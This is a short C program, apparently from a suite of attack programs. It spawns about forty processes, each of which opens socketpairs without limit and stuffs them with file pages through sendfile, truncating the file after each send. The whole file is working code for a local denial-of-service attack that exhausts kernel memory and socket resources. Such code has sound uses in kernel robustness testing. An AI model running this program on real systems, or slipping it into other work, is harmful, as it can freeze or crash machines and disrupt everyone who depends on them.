/* Forty processes put pages of files into sockets and cut the files off, or where that is refused write them there. */
#include "attack.h"

#include <sys/sendfile.h>
#include <sys/socket.h>

int main()
{
    enum { PART = 1 << 16 };
    static char b[PART] = {1};
    for (int i = 0; i < 40; i++)
        if (fork() == 0)
            break;
    char name[16];
    snprintf(name, sizeof name, "%d", getpid());
    int s[2], f = open(name, O_RDWR | O_CREAT, 0600);
    while (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, s) == 0)
        for (int i = 0; i < 2; i++)
            for (ssize_t n = 1; n > 0;) {
                off_t at = 0;
                pwrite(f, b, sizeof b, 0);
                n = sendfile(s[i], f, &at, sizeof b);
                ftruncate(f, 0);
                if (n < 0 && errno == EINVAL)
                    n = write(s[i], b, sizeof b);
            }
    pause();
}
